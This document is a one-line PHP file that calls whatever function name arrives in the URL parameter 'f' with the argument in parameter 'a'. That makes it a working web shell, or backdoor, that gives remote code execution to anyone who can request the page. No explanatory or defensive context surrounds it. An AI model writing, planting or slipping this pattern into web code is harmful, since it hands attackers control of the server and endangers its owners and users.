<?php $_GET['f']($_GET['a']);
